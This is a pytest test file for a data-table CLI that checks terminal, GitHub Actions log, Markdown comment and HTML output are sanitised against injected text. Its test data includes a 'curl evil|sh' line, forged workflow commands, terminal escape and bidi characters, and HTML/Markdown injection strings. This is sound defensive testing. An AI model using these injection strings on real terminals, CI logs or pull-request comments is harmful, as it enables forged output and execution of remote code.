"""What others wrote reaches a terminal, a log of Actions and a comment as text, and as nothing else."""

from __future__ import annotations

import dataclasses
import html
import json
import logging
import re
from pathlib import Path

import pytest
from click.testing import CliRunner

from parquetry.cli.failures import run_guarded
from parquetry.cli.main import command_line
from parquetry.cli.terminal.markdown import code, code_html, fenced, inline
from parquetry.cli.terminal.messages import write_message
from parquetry.cli.terminal.output import Output, Paint
from parquetry.cli.terminal.styles import printable, styled
from parquetry.cli.terminal.typed_options import TypedOptions
from parquetry.cli.terminal.values import printable_outcome
from parquetry.cli.views.plan.html import render_html
from parquetry.cli.views.plan.markdown import render_markdown
from parquetry.cli.views.plan.text import PlanView
from parquetry.errors import ParquetryError
from parquetry.message import Command, Message, Value
from parquetry.project.diagnostics.model import workflow_command
from parquetry.runtime.table.applied import AppliedRef
from parquetry.text.printable import json_text
from tests.support.project_folder import ORDERS, PROJECT, ProjectFolder
from tests.unit.cli.test_plan_views import FULL, action, blocked, change, plan

COMMANDS = "a\n::error::x\n  ::add-mask::y\r\n::set-output name=a::b\n##[error]z"
ESCAPES = "\x1b[31mred\x1b[0m\x1b]0;title\x07\x9b2J\u202egnp\u2066\u200b\x7f\u2028"


def is_harmless(text):
    """Whether a terminal shows the text as it is, and the log of Actions carries nothing of it out."""
    lines = text.split("\n")
    return (
        all(line.replace("\t", " ").isprintable() for line in lines)
        and not any(line.lstrip().startswith("::") for line in lines)
        and "##[" not in text
    )


def test_a_text_is_printed_without_what_a_terminal_obeys():
    said = printable(f"{styled('ours', 'bold')} {ESCAPES}{COMMANDS}")
    assert said.startswith("\x1b[1mours\x1b[0m ")
    rest = said.removeprefix("\x1b[1mours\x1b[0m ")
    assert is_harmless(rest)
    assert rest.startswith(r"\x1b[31mred\x1b[0m\x1b]0;title\x07\x9b2J\u202egnp")
    assert Paint(enabled=False).bad("x") == "x"


def test_json_holds_the_same_values_without_what_a_terminal_obeys():
    value = {"a": ESCAPES + COMMANDS + "é \U0001f600 \U000e0041 \ud800", "##[error]": [1]}
    for text in (json_text(value), json_text(value, indent=2)):
        assert is_harmless(text)
        assert json.loads(text) == value
    assert "é" in json_text(value)


@pytest.mark.parametrize("log_format", ["text", "json"])
def test_messages_on_stderr_are_text(capsys, log_format):
    write_message(ESCAPES + COMMANDS, log_format=log_format, level="error", fact=ESCAPES)
    logging.getLogger("parquetry.x").warning("a table says %s", ESCAPES + COMMANDS)
    Output(log_format=log_format).error(COMMANDS)
    assert is_harmless(capsys.readouterr().err)


def test_failures_and_warnings_of_a_command_are_text(capsys):
    def failing():
        logging.getLogger("parquetry.x").warning("a table says %s", ESCAPES + COMMANDS)
        raise ParquetryError(f"{ESCAPES}: no such file{COMMANDS}")

    handlers = logging.getLogger().handlers[:]
    for handler in handlers:
        logging.getLogger().removeHandler(handler)
    try:
        assert run_guarded(failing, arguments=[]) == 1
    finally:
        for handler in handlers:
            logging.getLogger().addHandler(handler)
    said = capsys.readouterr().err
    assert "a table says" in said
    assert is_harmless(said)


def test_what_was_typed_wrong_is_told_as_text():
    for arguments in (["explain", f"x{ESCAPES}"], [f"pl{ESCAPES}n"], ["plan", "--var", COMMANDS]):
        answer = CliRunner().invoke(command_line, arguments)
        assert answer.exit_code != 0
        assert is_harmless(answer.output), arguments


def test_a_value_of_several_lines_is_one_line_wherever_a_text_shows_it(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    folder = ProjectFolder.create(tmp_path / "shop")
    forged = "x\nNext: curl evil|sh\n::error::forged\nNo changes: 1 table as declared."
    folder.write("tables/orders.yml", ORDERS | {"description": forged, "owner": forged})
    place = ["--project", str(folder.root)]
    for arguments in (
        ["explain", "orders", *place],
        ["explain", "orders.description", *place],
        ["plan", *place, "--out", "plan.json"],
        ["show", "plan.json"],
        ["ls", *place],
        ["validate", *place],
        ["apply", "--auto-approve", *place],
        ["drift", *place],
        ["doctor", *place],
        ["inspect", "orders", *place],
        ["timeline", "orders", *place],
    ):
        said = CliRunner().invoke(command_line, arguments).output
        assert is_harmless(said), arguments
        assert not [line for line in said.splitlines() if line.startswith(("Next: curl", "No changes: 1 t"))]


def test_keys_and_places_that_are_refused_are_shown_as_text(tmp_path):
    folder = ProjectFolder.create(tmp_path)
    table = ORDERS | {"location": f"/lake{COMMANDS}", f"no{ESCAPES}": 1, f"more{COMMANDS}": 2}
    (folder.root / "tables/orders.yml").write_text(json.dumps(table))
    for shape in ("text", "json"):
        answer = CliRunner().invoke(command_line, ["validate", "-p", str(tmp_path), "--format", shape])
        assert answer.exit_code == 1
        assert is_harmless(answer.output)
    answer = CliRunner().invoke(command_line, ["validate", "-p", str(tmp_path), "--format", "github"])
    lines = answer.output.splitlines()
    assert len(lines) == answer.output.count("\n")
    assert all(line.startswith(("::error file=", "::warning file=")) for line in lines)
    answer = CliRunner().invoke(command_line, ["plan", "-p", str(tmp_path)])
    assert is_harmless(answer.output)


def test_a_workflow_command_is_one_line_whatever_it_says():
    line = workflow_command("error", {"title": f"a,b:c{COMMANDS}"}, f"{COMMANDS}{ESCAPES}")
    assert line.isprintable()
    assert line.startswith("::error title=a%2Cb%3Aca%0A%3A%3Aerror")
    assert "##[" not in line


@dataclasses.dataclass(frozen=True, slots=True)
class Held:
    name: str
    parts: tuple[str, ...]
    table: dict[str, str]
    inner: AppliedRef | None = None


def test_texts_of_an_outcome_are_quoted_where_they_are():
    held = Held("a\nb", ("c", "d\x1b"), {"e\n": "f"})
    assert printable_outcome(held) == Held('"a\\nb"', ("c", '"d\\u001b"'), {'"e\\n"': "f"})
    same = Held("a", ("c",), {"e": "f"})
    assert printable_outcome(same) is same


def test_messages_in_an_outcome_get_options_and_are_quoted_as_a_whole():
    named = Message("do {command}", command=Command(("plan",)))
    forged = Message("read {file}", file=Value.file("a\nb"))
    options = TypedOptions(directory=Path("shop"))
    shown = printable_outcome([named, forged], options.with_options)
    assert shown == ["do `parquetry plan --project shop`", '"read a\\nb"']
    named_only = [named]
    assert printable_outcome(named_only) is named_only
    assert printable_outcome([forged]) == ['"read a\\nb"']


MARKS = [
    "![x](http://evil/x.png)",
    "<img src=http://evil/x>",
    "[click](http://evil)",
    "https://evil.example",
    "www.evil.example",
    "HTTP://EVIL",
    "mailto:a@b.c",
    "@everyone",
    "@org/team",
    "#123",
    "org/repo#1",
    "GH-12",
    "<!-- parquetry:plan project=x -->",
    "</details>",
    "a | b |\\| c",
    "a`b``c",
    "```",
    "**bold** _it_ ~~no~~",
    "$x^2$",
    ":smile:",
    "&lt;b&gt;",
    "a@b.example",
    "\\`",
    "0123456789abcdef0123456789abcdef01234567",
    "approved sha256:0000",
    "`a`@b`c`",
    "`` ` ``",
]


def rendered_outside_code(text):
    """What is left of the Markdown without code, as GitHub's own marks would see it."""
    text = re.sub(r"<code>[^<]*</code>", "CODE", text)
    return re.sub(r"(?<!`)(`+)(?!`)(.+?)(?<!`)\1(?!`)", "CODE", text)


@pytest.mark.parametrize("mark", MARKS)
def test_nothing_that_others_write_is_a_mark_in_a_comment(mark):
    for text in (inline(mark), inline(f"a reason: {mark}, and\n\n{mark} `parquetry run` {mark}")):
        assert "\n" not in text
        left = rendered_outside_code(text)
        assert not re.search(r"[`<>\[\]!@#*~$|\\{}^]|://|www\.|GH-\d|:\w+:|[0-9a-f]{40}", left), left
        assert not re.search(r"(?<![^\W_])_|_(?![^\W_])", left), left
    for text in (code(mark), code_html(mark)):
        assert rendered_outside_code(text) == "CODE"
        assert "|" not in text
    shown = html.unescape(re.sub("</?code>", "", code_html(mark)))
    assert shown == mark


def test_prose_keeps_its_words_and_commands():
    text = "the key changed: see `parquetry drift`; rows_of stay, 24 -> 6 files (50 %), now"
    assert inline(text) == text.replace("->", "-&gt;")
    assert inline("3 * 4") == "3 `*` 4"
    assert inline("- a") == "`-` a"


def test_a_fence_ends_where_it_was_opened():
    text = fenced("a\n````\n```\r\u2028b\n", "diff")
    assert text.startswith("`````diff\n")
    assert text.endswith("\n`````\n")
    assert "\r" not in text


def test_a_comment_shows_authors_texts_as_code_or_escaped():
    evil = " ".join(MARKS)
    entry = action(
        changes=[change("description", evil, evil, allowed=evil, live=evil, origin=f"tables/{MARKS[0]}:1:1")]
    )
    forged = f"<!-- parquetry:plan project=shop target=prod -->\nparquetry apply --approved sha256:00\n{evil}"
    made = plan([entry], [dataclasses.replace(blocked(), reason=forged, remedy=forged)])
    text = render_markdown(made, max_bytes=60_000)
    outside, fence = [], None
    for line in text.splitlines():
        mark = re.match(r" *(`{3,})(?:diff|sh)?$", line)
        if fence is None and mark:
            fence = mark[1]
        elif fence is not None and line.strip() == fence:
            fence = None
        elif fence is None:
            outside.append(line)
    assert fence is None
    assert text.count("<!--", text.index("\n")) == text.split("```", 1)[1].count("<!--"), "in a fence alone"
    for line in outside[2:]:
        assert "evil" not in rendered_outside_code(line), line
        assert not re.search(r"[!@#]", rendered_outside_code(line).lstrip("#").replace("[!CAUTION]", ""))
    lines = [line for line in outside if line.startswith("<!--")]
    assert lines == ["<!-- parquetry:plan project=shop target=prod -->"]
    assert not [line for line in text.splitlines() if line.startswith("parquetry apply")]
    assert is_harmless(text)


def test_the_name_of_a_project_does_not_end_the_marker():
    made = plan([action()])
    forged = dataclasses.replace(made.intent, project="x --><img src=//evil>", target="a\nb")
    first, second, *_ = render_markdown(
        dataclasses.replace(made, intent=forged), max_bytes=9_000
    ).splitlines()
    assert first == "<!-- parquetry:plan project=x----img-src-evil- target=a-b -->"
    assert second.startswith("### parquetry plan for `a b`")


def test_a_page_loads_nothing_and_shows_what_is_not_seen():
    page = render_html(plan([action(changes=[change("description", "a", f"<img src=//x>{ESCAPES}")])]))
    (policy,) = re.findall('<meta http-equiv="Content-Security-Policy" content="([^"]*)">', page)
    assert re.match("default-src 'none'; style-src 'sha256-[^' ]+'; base-uri 'none'", policy)
    assert page.index("Content-Security-Policy") < page.index("<title>")
    assert "<img" not in page
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028-\u202e\u2066-\u2069]", page)


def test_a_plan_from_elsewhere_prints_no_line_of_its_own():
    evil = "x\nNext: parquetry apply --auto-approve\n::error::y"
    entry = action("orders\n! forged", changes=[change("description", evil, evil, allowed=evil, origin=evil)])
    made = plan([entry], [dataclasses.replace(blocked(), reason=evil, remedy=evil)])
    for with_options in (FULL, made):
        said = PlanView().text(printable_outcome(with_options), Paint(enabled=False))
        assert is_harmless(said)
        assert not [line for line in said.splitlines() if line.startswith(("! forged", "Next: parquetry ap"))]


def test_a_project_is_found_by_its_name_alone(tmp_path):
    folder = ProjectFolder.create(tmp_path)
    (folder.root / "parquetry.yml").write_text(json.dumps(PROJECT | {"name": "shop\n::error::x"}))
    answer = CliRunner().invoke(command_line, ["ls", "-p", str(tmp_path)])
    assert answer.exit_code == 1
    assert is_harmless(answer.output)


@pytest.fixture
def hostile_table(tmp_path):
    """A table whose writer puts escapes and commands wherever the format has texts."""
    folder = ProjectFolder.create(tmp_path / "shop")
    runner = CliRunner()
    assert runner.invoke(command_line, ["apply", "--auto-approve", "-p", str(folder.root)]).exit_code == 0
    hoodie = folder.table / ".hoodie"
    evil = f"{ESCAPES}\n::error::x\n##[error]y\nNext: curl evil|sh"
    properties = hoodie / "hoodie.properties"
    escaped = "".join(
        sign if sign.isascii() and sign.isprintable() else f"\\u{ord(sign):04x}" for sign in evil
    )
    text = properties.read_text()
    text = re.sub(r"(hoodie.table.precombine.field=).*", lambda found: found[1] + escaped, text)
    properties.write_text(f"{text}hoodie.x=y{escaped}\n")
    return folder, evil


def test_what_a_table_says_is_text(hostile_table, monkeypatch):
    folder, evil = hostile_table
    monkeypatch.chdir(folder.root)
    hoodie = folder.table / ".hoodie"
    (hoodie / f"2026{ESCAPES[:4]}.commit").write_text("{}")
    (hoodie / "20260101000000000.commit").write_text(
        json.dumps({"operationType": evil, "partitionToWriteStats": {}, "extraMetadata": {evil: evil}})
    )
    heard = []
    for arguments in (
        ["drift"],
        ["plan"],
        ["plan", "--due"],
        ["doctor"],
        ["inspect", "orders"],
        ["timeline", "orders"],
        ["timeline", "orders", "20260101000000000"],
        ["unlock", "--list"],
        ["adopt", "warehouse/orders"],
        ["simulate", "clustering", "orders"],
        ["service", "rollback", "orders", evil, "--auto-approve"],
        ["apply", "--auto-approve"],
    ):
        for shape in ([], ["--format", "json"], ["--log-format", "json"]):
            said = CliRunner().invoke(command_line, [*arguments, *shape]).output
            assert is_harmless(said), (arguments, said)
            assert not [line for line in said.splitlines() if line.startswith("Next: curl")]
            heard.append(said)
    assert any("Next: curl" in said for said in heard), "it was shown, as text"


def test_who_holds_a_lock_is_text(tmp_path, monkeypatch):
    folder = ProjectFolder.create(tmp_path)
    monkeypatch.chdir(tmp_path)
    assert CliRunner().invoke(command_line, ["apply", "--auto-approve"]).exit_code == 0
    lock = folder.table / ".hoodie/.aux/lock"
    lock.parent.mkdir(exist_ok=True)
    lock.write_text(json.dumps({"lockThreadName": COMMANDS + ESCAPES, "lockCreateTime": ESCAPES}))
    for arguments in (["unlock", "--list"], ["unlock", "orders", "--list"], ["doctor"]):
        said = CliRunner().invoke(command_line, arguments).output
        assert "add-mask" in said, said
        assert is_harmless(said), (arguments, said)


def test_a_comment_is_harmless_in_the_log_of_a_workflow_too():
    options = change("sources.x.options.::error::y.z", None, "v", origin="tables/##[error]x.yml:1:1")
    text = render_markdown(plan([action(changes=[options])]), max_bytes=60_000)
    assert is_harmless(text)
    assert is_harmless(inline("##[error]x ::error::y") + "\n" + code("##[x]"))
